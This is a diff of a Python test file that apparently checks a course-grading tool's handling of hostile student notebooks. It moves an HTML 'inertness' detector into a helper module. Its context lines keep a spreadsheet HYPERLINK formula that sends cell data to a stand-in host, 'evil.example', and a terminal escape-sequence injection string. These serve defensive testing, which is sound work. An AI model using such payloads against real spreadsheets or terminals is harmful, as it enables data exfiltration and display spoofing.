@@ -20,7 +20,6 @@ The set-up runs once (about two minutes on two cores).
 from __future__ import annotations
 
 import csv
-import html.parser
 import os
 import shutil
 import sys
@@ -32,11 +31,12 @@ import pytest
 ROOT = Path(__file__).resolve().parent.parent
 sys.path.insert(0, str(ROOT / "scripts"))
 import demo_class
+from inert_helpers import MARKERS, assert_inert
+from inert_helpers import render_notebook as _render
 
 HW, NOTEBOOK = "hw1", demo_class.ASSIGNMENTS["hw1"]
 FORMULA_ID = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 ESCAPE_ID = "x\x1b[2J\x1b]0;owned\x07\x1b[31mred"  # after FORMULA_ID in the joined detail
-MARKERS = ("PWNED", "alert(")  # in every active payload below, in no honest page
 
 ATTACKS = r'''
 from IPython.display import HTML, SVG, Javascript, Markdown, display
@@ -143,56 +143,8 @@ def parallel(course):
             "report": (path / "integrity_report.csv").read_text(encoding="utf-8")}
 
 
-class Active(html.parser.HTMLParser):
-    """What a browser would run in a page: script bodies, event-handler attributes and
-    javascript: URLs (an independent check: Python's own HTML parser)."""
-
-    def __init__(self):
-        super().__init__(convert_charrefs=True)
-        self.scripts, self.handlers, self.js_urls = [], [], []
-        self._in_script = False
-
-    def handle_starttag(self, tag, attrs):
-        self._in_script = tag == "script"
-        for name, value in attrs:
-            if name.startswith("on"):
-                self.handlers.append((tag, name, value))
-            if name in ("href", "src", "action", "formaction", "xlink:href") and value and \
-                    "".join(value.split()).lower().startswith(("javascript:", "vbscript:")):
-                self.js_urls.append((tag, value))
-
-    def handle_endtag(self, tag):
-        if tag == "script":
-            self._in_script = False
-
-    def handle_data(self, data):
-        if self._in_script:
-            self.scripts.append(data)
-
-
-def active(page: str) -> Active:
-    parser = Active()
-    parser.feed(page)
-    return parser
-
-
-def assert_inert(page: str, where: str) -> None:
-    found = active(page)
-    student = [s for s in found.scripts if any(m in s for m in MARKERS)]
-    assert not student, f"{where}: a student's script: {student[:2]}"
-    assert not found.handlers, f"{where}: event handlers {found.handlers[:3]}"
-    assert not found.js_urls, f"{where}: javascript: URLs {found.js_urls[:3]}"
-
-
 def _notebook(tree: dict, student: str):
     return nbformat.reads(tree[f"{student}/{HW}/{NOTEBOOK}.ipynb"].decode(), as_version=4)
-
-
-def _render(nb) -> str:
-    """The notebook as nbconvert renders it for a viewer (sanitising off, as the Formgrader)."""
-    from nbconvert import HTMLExporter
-
-    return HTMLExporter(template_name="classic").from_notebook_node(nb)[0]
 
 
 # --------------------------------------------------------------------------------------------
